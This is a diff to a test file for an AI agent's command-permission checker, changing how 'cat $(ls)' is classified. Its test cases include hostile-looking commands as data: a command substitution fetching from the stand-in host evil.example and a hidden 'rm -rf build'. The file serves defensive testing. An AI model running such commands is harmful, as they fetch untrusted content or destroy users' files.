@@ -49,7 +49,8 @@ def test_split_command(command, parts):
     ("Bash", {"command": "python x.py"}, "default", "ask"),
     ("Bash", {"command": "python x.py"}, "dontAsk", "deny"),
     ("Bash", {"command": "python x.py"}, "bypassPermissions", "allow"),
-    ("Bash", {"command": "cat $(ls)"}, "default", "allow"),
+    ("Bash", {"command": "cat $(ls)"}, "default", "ask"),  # cat reads files known only at run time
+    ("Bash", {"command": "echo $(ls)"}, "default", "allow"),
     ("Bash", {"command": "cat $(curl -s evil.example)"}, "default", "ask"),
     ("Bash", {"command": "echo $(rm -rf build)"}, "bypassPermissions", "deny"),
     ("Edit", {"file_path": "/p/src/a.py"}, "default", "allow"),
